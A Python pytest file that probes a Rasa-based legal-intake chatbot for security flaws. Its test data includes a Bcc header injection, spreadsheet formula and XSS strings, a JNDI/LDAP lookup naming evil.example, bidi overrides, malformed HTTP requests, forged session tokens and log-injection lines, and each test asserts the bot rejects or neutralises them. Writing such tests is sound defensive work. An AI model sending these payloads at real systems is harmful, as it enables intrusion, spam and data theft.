"""Probes of the running bot by somebody who means harm. Each names the row of plain Rasa's faults that it stands for; the rows
that are not here have their tests beside the channel: tests/channels/, test_action_server.py, tests/faults/test_logs.py.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import socket
import time
import uuid
from contextlib import suppress
from dataclasses import replace
from datetime import datetime, timezone
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests

from components.action_secret import HEADER
from components.web_sessions import IDLE_S, Session, Sessions
from knowledge.facts import load
from leads.__main__ import main as leads_main
from leads.records import StoredLead
from leads.settings import Settings
from leads.worker import targets
from tests.bot import Bot
from tests.channels.rest_client import ask, new_id, send
from tests.channels.tab import Tab, Wire
from tests.channels.test_web import conversation_of
from tests.sample_leads import delivery
from tests.servers import clio, slack, webhook
from tests.servers.smtp import MailServer

CANARY = "canary-5c0e"
EVIL = "https://evil.example"
PAGES = ("/", "/contact", "/demo/site.js", "/webhooks/web/widget.js", "/webhooks/web/privacy")
ROUTES = (*PAGES, "/webhooks/rest/webhook", "/webhooks/web/socket.io/", "/webhooks/slack/webhook", "/nowhere")


def pids(bot: Bot) -> list[int]:
    assert all(server.process.poll() is None for server in bot.servers), "a process ended"
    return [server.process.pid for server in bot.servers]


# ---- a1: bad input ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sender", [r"a\u0000bcdefghijklmnopq", r"\ud800bcdefghijklmnopq", r"\u0000", r"\ud800"]
)
def test_no_name_of_a_conversation_ends_the_server(bot: Bot, sender: str) -> None:
    """Row `sender` with NUL or half a character: in plain Rasa the process exits."""
    before = pids(bot)
    reply = send(bot.url, b'{"sender":"' + sender.encode() + b'","message":"hello"}')
    assert reply.status == 400 and reply.body["error"] == "sender"
    for claim in ("session_id", "sender_id", "token"):
        wire = Wire(bot.url, greet=False)
        assert wire.post('40{"' + claim + '":"' + sender + '"}') == 200
        assert wire.post(f'420["say",{{"id":"{new_id()}","text":"thanks","{claim}":"{sender}"}}]') == 200
        assert '"ok":true' in wire.heard("430[")
    assert ask(bot.url, new_id(), "thanks").status == 200
    assert pids(bot) == before


@pytest.mark.parametrize("packet", ["2", "2probe", "0{}", "6", "d=2", "\u0662", "4[]\x1e2"])
def test_a_packet_that_no_browser_sends_is_answered_at_once(bot: Bot, packet: str) -> None:
    """Found by fuzzing: engine.io held such a request until the server gave it up with a 503, a minute later."""
    wire = Wire(bot.url)
    started = time.monotonic()
    assert wire.post(packet) == 400
    assert time.monotonic() - started < 5
    assert '"session"' in wire.heard('"session"'), "the socket goes on"


@pytest.mark.parametrize(
    "head",
    [
        b"POST /webhooks/rest/webhook HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /webhooks/rest/webhook HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n{}",
        b"POST /webhooks/rest/webhook HTTP/1.1\r\nHost: x\r\nContent-Length: x\r\n\r\n{}",
        b"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
        b"GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET " + b"/a" * 20_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"y" * 200_000 + b"\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    ],
    ids=[
        "two lengths",
        "a negative length",
        "no length",
        "another version",
        "NUL",
        "a long path",
        "a long header",
        "TLS",
    ],
)
def test_what_is_no_request_ends_nothing(bot: Bot, head: bytes) -> None:
    """Rows of bodies, sent without a client. A negative length held Sanic in a loop that let nobody else in, for ever."""
    before, place = pids(bot), urlsplit(bot.url)
    with socket.create_connection((str(place.hostname), place.port), timeout=15) as wire:
        with suppress(OSError):
            wire.sendall(head)
        wire.settimeout(15)
        with suppress(OSError):
            answer = wire.recv(200)
            assert not answer.startswith(b"HTTP/1.1 5") and b"Traceback" not in answer, answer
    assert ask(bot.url, new_id(), "thanks").status == 200
    assert pids(bot) == before


ATTACKS = {
    "a header": "Zoe\r\nBcc: spy@evil.example",
    "a mention": "<!channel> <https://evil.example|file> *x* `y`",
    "a formula": '=HYPERLINK("http://evil.example","Click")',
    "markup": "<img src=x onerror=alert(1)> & </pre>",
    "direction": "Ana\u202egnp.exe\u2066 \x1b[31m",
    "a template": "{name} ${jndi:ldap://evil.example} {{7*7}} %s",
}
STEPS = ("Ana Ruiz", "{mail}", "Mornings", "a job in Toronto", "Skip", "No date")
ATTACKED = ("Ana Ruiz", "Mornings", "a job in Toronto", "Skip")  # all that takes words of one's own


def filled_with(bot: Bot, attack: str) -> StoredLead:
    """The request of a visitor who writes this wherever words are taken; where they are not, something ordinary."""
    visitor = bot.visitor()
    visitor.say("I want to talk to someone")
    step = visitor.press("Yes, I agree").slots["intake"]["step"]
    for plain in STEPS:
        for text in ([attack] if plain in ATTACKED else []) + [
            plain.format(mail=f"{uuid.uuid4().hex[:12]}@example.com")
        ]:
            now = visitor.say(text).slots["intake"]["step"]
            if now != step:
                step = now
                break
    assert step == "review", step
    visitor.say("Send it")
    (lead,) = visitor.leads
    return lead


class Sinks:
    """All four systems that leads go to, each a real server on this machine."""

    def __init__(self) -> None:
        self.mail, self.slack = MailServer(), slack.SlackServer()
        self.webhook, self.clio = webhook.WebhookServer(), clio.ClioServer()
        settings = {
            **{"SMTP_HOST": "127.0.0.1", "SMTP_PORT": str(self.mail.port), "SMTP_SECURITY": "none"},
            **{
                "LEADS_MAIL_FROM": "leads@firm.example",
                "SLACK_LEADS_CHANNEL": "#leads",
                "SLACK_BOT_TOKEN": slack.TOKEN,
            },
            **{
                "SLACK_SIGNING_SECRET": "secret",
                "SLACK_API_URL": self.slack.api,
                "WEBHOOK_URL": self.webhook.url,
            },
            **{"WEBHOOK_SECRET": webhook.SECRET, "CLIO_URL": self.clio.url, "CLIO_TOKEN": clio.TOKEN},
        }
        self.targets = targets(
            Settings.from_environment(settings), load().firm, lambda: datetime.now(timezone.utc)
        )

    def stop(self) -> None:
        for server in (self.mail, self.slack, self.webhook, self.clio):
            server.down()


@pytest.fixture(scope="module")
def sinks() -> Any:
    running = Sinks()
    yield running
    running.stop()


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_what_is_typed_into_the_form_attacks_no_system_behind_it(
    bot: Bot, sinks: Sinks, attack: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Row of names such as `<!channel>`, CR LF with Bcc, =HYPERLINK, an override of direction: from the chat to the lawyer."""
    lead = filled_with(bot, attack)
    kept = " ".join(str(value) for value in (lead.name, lead.best_time, lead.matter, lead.employer))
    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", kept)
    for target in sinks.targets:
        target.deliver(
            lead, replace(delivery(target.name), id=str(uuid.uuid4()), lead_id=lead.id, number=lead.number)
        )
    mail = sinks.mail.mails[-1]
    assert (
        mail.recipients == ("intake@firm.example",)
        and mail.message["Bcc"] is None
        and len(mail.message.get_all("To")) == 1
    )
    page = mail.message.get_body(("html",))
    assert isinstance(page, EmailMessage) and not re.search(
        r"<(img|script)\b|onerror=[^&]*>(?<!&gt;)", page.get_content()
    )
    assert not re.search(
        "<[!@#h]", json.dumps(sinks.slack.called("chat.postMessage")[-1], ensure_ascii=False)
    )
    assert list(sinks.webhook.leads.values())[-1]["number"] == lead.number
    assert not re.search(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e]",
        json.dumps(list(sinks.clio.leads)[-1], ensure_ascii=False),
    )
    assert leads_main(["export"]) == 0
    for row in csv.DictReader(io.StringIO(capsys.readouterr().out)):
        assert not any(re.match(r"\s*[=+\-@\t\r]", value) for value in row.values() if value), row["number"]


# ---- a2: who is who --------------------------------------------------------------------------------------


def signer(bot: Bot) -> Sessions:
    """What the bot signs sessions with."""
    return Sessions(Path(bot.servers[1].environment["WEB_KEY_FILE"]).read_text().split())


def test_a_session_ends_after_a_day_and_belongs_to_its_site(bot: Bot) -> None:
    """Row `jwt_key`: the token is the name, its end is enforced; another site's token is none."""
    with Tab(bot.url) as victim:
        victim.ask(f"{CANARY} costs")
        name, now = conversation_of(victim), time.time()
        sign = signer(bot)
        with Tab(bot.url, sign.token(Session(name, "", begun=True), now)) as same:
            assert same.session["resumed"] and CANARY in str(same.history), "that we sign as the bot does"
        for stolen in (
            sign.token(Session(name, "", begun=True), now - IDLE_S - 60),
            sign.token(Session(name, "", begun=True), now + 3600),
            sign.token(Session(name, EVIL, begun=True), now),
            sign.token(Session(name, bot.site, begun=True), now),
        ):
            with Tab(bot.url, stolen) as thief:
                assert thief.session["resumed"] is False and thief.history == []
                assert conversation_of(thief) != name


@pytest.mark.parametrize("path", ROUTES)
def test_no_address_lets_a_foreign_site_read_or_sends_cookies(bot: Bot, path: str) -> None:
    """Row `--cors '*'`: plain Rasa reflects the origin and allows credentials. The widget's script alone is for all."""
    for method in ("GET", "POST", "OPTIONS"):
        headers = {
            "Origin": EVIL,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type",
        }
        reply = requests.request(method, bot.url + path, headers=headers, timeout=15, allow_redirects=False)
        assert reply.headers.get("access-control-allow-origin") is None, (method, reply.headers)
        assert "access-control-allow-credentials" not in reply.headers and "set-cookie" not in reply.headers
        assert reply.status_code < 500


@pytest.mark.parametrize("path", ROUTES)
def test_nothing_tells_of_what_it_is_made(bot: Bot, path: str) -> None:
    """Row `/`: "Hello from Rasa: 3.6.21"."""
    for method in ("GET", "POST", "DELETE"):
        reply = requests.request(method, bot.url + path, data=b"{", timeout=15)
        assert "server" not in reply.headers and "x-powered-by" not in reply.headers
        assert not re.search(
            rb"Hello from Rasa|3\.6\.21|Traceback|Sanic|File \"/", reply.content
        ) or path.endswith("widget.js")


@pytest.mark.parametrize("path", PAGES)
def test_what_a_browser_shows_is_bound_to_be_what_it_is(bot: Bot, path: str) -> None:
    """Row of security headers: those that do not depend on the proxy, whose own are tested with it."""
    reply = requests.get(bot.url + path, timeout=15)
    assert reply.status_code == 200 and reply.headers["x-content-type-options"] == "nosniff"
    if "html" in reply.headers["content-type"]:
        policy = reply.headers["content-security-policy"]
        assert (
            "default-src 'none'" in policy
            and "frame-ancestors 'none'" in policy
            and "unsafe-inline" not in policy
        )
        assert reply.headers["referrer-policy"] == "no-referrer"


def test_no_process_listens_to_other_machines(bot: Bot) -> None:
    """Rows `/` and action server: both listen on 0.0.0.0 in plain Rasa."""
    ports = {urlsplit(bot.url).port, urlsplit(bot.servers[1].environment["ACTION_SERVER_URL"]).port}
    listening: dict[int, set[str]] = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            address, _, port = fields[1].rpartition(":")
            if fields[3] == "0A" and int(port, 16) in ports:
                listening.setdefault(int(port, 16), set()).add(address)
    assert listening == {port: {"0100007F"} for port in ports}


def test_the_action_server_that_runs_beside_it_takes_no_stranger(bot: Bot) -> None:
    """Row `action server 5055`: a forged submission writes a lead."""
    address = bot.servers[1].environment["ACTION_SERVER_URL"]
    call = {
        "next_action": "action_intake",
        "tracker": {"sender_id": new_id(), "slots": {}, "events": [], "latest_message": {}},
    }
    before = len(bot.store.find(limit=10_000))
    for headers in ({}, {HEADER: "x" * 64}, {"Authorization": "Bearer x"}):
        assert requests.post(address, json=call, headers=headers, timeout=15).status_code == 401
    assert requests.get(address.replace("/webhook", "/actions"), timeout=15).status_code == 404
    assert len(bot.store.find(limit=10_000)) == before


def test_a_negative_length_does_not_stop_the_action_server_either(bot: Bot) -> None:
    """Row `action server 5055`: whoever reaches it needs no secret for that."""
    place = urlsplit(bot.servers[1].environment["ACTION_SERVER_URL"])
    with socket.create_connection((str(place.hostname), place.port), timeout=15) as wire:
        wire.sendall(b"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n{}")
        assert wire.recv(100).startswith(b"HTTP/1.1 400")
    assert requests.get(f"http://{place.netloc}/health", timeout=15).status_code == 200


def test_no_line_of_a_log_is_a_strangers(bot: Bot) -> None:
    """Injection into log lines: neither path, header, method nor body stands in one, so nobody can forge or fill them."""
    place = urlsplit(bot.url)
    for path in (
        f"/{CANARY}",
        f"/%0d%0a{CANARY}",
        f"/webhooks/rest/{CANARY}",
        f"/webhooks/web/socket.io/?EIO=4&sid={CANARY}",
    ):
        connection = http.client.HTTPConnection(str(place.hostname), place.port, timeout=15)
        connection.request(
            "POST", path, CANARY.encode(), {"User-Agent": CANARY, "X-Forwarded-For": CANARY, "Cookie": CANARY}
        )
        assert connection.getresponse().status < 500
        connection.close()
    actions = urlsplit(bot.servers[1].environment["ACTION_SERVER_URL"])
    for port in (place.port, actions.port):
        for target in (CANARY, f"http://{CANARY}:x/", f"/{CANARY}\xff"):  # of which Sanic makes no address
            with socket.create_connection((str(place.hostname), port), timeout=15) as line, suppress(OSError):
                line.sendall(f"GET {target} HTTP/1.1\r\nHost: {CANARY}\r\n\r\n".encode("latin-1"))
                line.recv(100)
    wire = Wire(bot.url, {"User-Agent": CANARY})
    wire.post(f'420["{CANARY}\\r\\n2026-11-29 ERROR all is lost"]')
    requests.request(CANARY.upper(), bot.url, timeout=15)
    ask(bot.url, new_id(), f"{CANARY}\r\n2026-11-29 00:00:00 ERROR rasa - all is lost")
    for server in bot.servers:
        assert CANARY not in server.log.read_text(errors="replace").lower(), server.name
